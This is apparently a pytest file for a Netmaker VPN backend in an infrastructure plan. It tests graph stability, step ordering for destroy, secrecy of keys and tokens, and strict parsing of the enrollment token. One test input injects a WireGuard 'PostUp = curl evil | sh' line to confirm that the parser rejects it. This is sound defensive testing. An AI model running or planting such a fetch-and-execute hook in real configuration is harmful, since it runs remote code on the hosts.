"""The Netmaker backend in the plan: the graph above the VPN does not change, the steps are
ordered for destroy, no key or token leaks, and the hub's token is parsed strictly."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from components.kit.shell import split_command
from tests.support.helpers import deps_closure, evaluate_config, stack_config
from tests.support.netmaker import GOOD_TOKEN, token_of
from tools.render.evaluate import Evaluation, Secret
from tools.render.write import reveal, write_all

VPN_LAYER = re.compile(r"^mesh(-|$)")
# The host firewall opens the VPN's UDP ports and interface, which differ by backend
# (tests/hosts/test_firewall_plan.py checks both).
VPN_PORT_USERS = re.compile(r"-firewall(-rules)?$")


@pytest.fixture(scope="module")
def wireguard() -> Evaluation:
    return evaluate_config(stack_config("dev"))


@pytest.fixture(scope="module")
def netmaker() -> Evaluation:
    return evaluate_config(stack_config("netmaker"))


def above_vpn(ev: Evaluation) -> dict[str, Any]:
    """Inputs of every resource above the VPN layer, with the VPN's interface name abstracted."""
    out = {}
    for r in ev.resources:
        if VPN_LAYER.match(r.name) or VPN_PORT_USERS.search(r.name):
            continue
        text = json.dumps(reveal(r.inputs), sort_keys=True)
        out[r.name] = text.replace("VPN_IFACE=netmaker", "VPN_IFACE=<vpn>").replace("VPN_IFACE=wg0", "VPN_IFACE=<vpn>")
    return out


def test_backends_swap_without_any_change_above_the_vpn(wireguard: Evaluation, netmaker: Evaluation) -> None:
    a, b = above_vpn(wireguard), above_vpn(netmaker)
    assert a.keys() == b.keys()
    assert [name for name in a if a[name] != b[name]] == []
    install = split_command(netmaker.by_name("cluster-ws-1-microk8s").inputs["create"])[1]
    assert install["VPN_IFACE"] == "netmaker" and install["NODE_IP"] == "100.64.1.1" and install["CNI_MTU"] == "1330"


def test_each_host_joins_in_parallel_and_the_cluster_waits_for_its_address(netmaker: Evaluation) -> None:
    joins = [r for r in netmaker.resources if r.name.startswith("mesh-") and r.name.endswith("-join")]
    assert len(joins) == 5
    urns = {r.urn for r in joins}
    for join in joins:
        assert not deps_closure(netmaker, join.urn) & urns  # no join waits on another
        assert netmaker.by_name("mesh-enrollment").urn in join.dependencies
    closure = deps_closure(netmaker, netmaker.by_name("cluster-ws-1-microk8s").urn)
    assert netmaker.by_name("mesh-ws-1-address").urn in closure
    _, params = split_command(netmaker.by_name("mesh-ws-1-address").inputs["create"])
    assert params == {"ACTION": "address", "NETWORK": "hybrid-ai", "HOST_NAME": "ws-1", "ADDRESS": "100.64.1.1/16"}
    _, relay = split_command(netmaker.by_name("mesh-relay").inputs["create"])
    assert relay["RELAY_HOST"] == "vpn-hub" and relay["RELAYED_HOSTS"] == "ws-1 ws-2"  # the NAT'd office


def test_destroy_order_leave_revoke_then_server(netmaker: Evaluation) -> None:
    server, network, key = (netmaker.by_name(f"mesh-{n}") for n in ("server", "network", "enrollment"))
    join = netmaker.by_name("mesh-ws-1-join")
    # Dependents are deleted first: the host leaves, then the key is revoked, the network and the server go last.
    assert key.urn in join.dependencies and network.urn in key.dependencies and server.urn in network.dependencies
    assert "netclient-leave.sh" in join.inputs["delete"]
    assert split_command(key.inputs["delete"])[1]["ACTION"] == "enrollment-revoke"
    assert "netmaker-server-remove.sh" in server.inputs["delete"]


def test_master_key_and_token_stay_secret(netmaker: Evaluation, tmp_path: Path) -> None:
    for r in netmaker.resources:
        if r.name.startswith("mesh-") and r.type == "command:remote:Command":
            assert isinstance(r.inputs["stdin"], Secret), r.name
            assert r.inputs["logging"] == "none", r.name
    write_all(netmaker, tmp_path)
    secrets = {v for v in netmaker.secret_values if len(v) >= 16}
    assert any("ENROLLMENT" in v for v in secrets)
    for path in (p for p in tmp_path.rglob("*") if p.is_file()):
        text = path.read_text()
        assert not [s for s in secrets if s in text], path


def test_the_key_is_revoked_once_every_host_has_joined_and_renewed_with_the_host_set(netmaker: Evaluation) -> None:
    key, revoke = netmaker.by_name("mesh-enrollment"), netmaker.by_name("mesh-enrollment-revoke")
    joins = [r for r in netmaker.resources if r.name.startswith("mesh-") and r.name.endswith("-join")]
    assert joins and all(j.urn in deps_closure(netmaker, revoke.urn) for j in joins)
    key_params, revoke_params = split_command(key.inputs["create"])[1], split_command(revoke.inputs["create"])[1]
    assert key_params["HOSTS"] == "interface receipt vpn-hub ws-1 ws-2" and key_params["TTL_S"] == "86400"
    assert revoke_params == {**key_params, "ACTION": "enrollment-revoke"}  # runs again after each new key
    assert "USES" not in key_params and len(key_params["TAG"]) + 9 <= 32
    # Nothing waits for the revocation: the plan's depth does not grow.
    assert not [r.name for r in netmaker.resources if revoke.urn in r.dependencies]


def test_the_program_parses_the_hubs_token_strictly_and_names_the_step() -> None:
    from components.vpn.netmaker import enrollment_token
    assert enrollment_token(GOOD_TOKEN + "\n", "step") == GOOD_TOKEN
    hostile = "[Interface]\nPostUp = curl evil | sh\n" + GOOD_TOKEN
    for out in (hostile, "", GOOD_TOKEN + " " + GOOD_TOKEN, token_of("v" * 200), "A" * 10_000):
        with pytest.raises(ValueError, match=r"^mesh-enrollment \(on vpn-hub\): printed something") as err:
            enrollment_token(out, "mesh-enrollment (on vpn-hub)")
        assert "PostUp" not in str(err.value)
    with pytest.raises(Exception, match=r"mesh-enrollment \(on vpn-hub\)"):
        evaluate_config(stack_config("netmaker"), command_stdout={"mesh-enrollment": hostile})
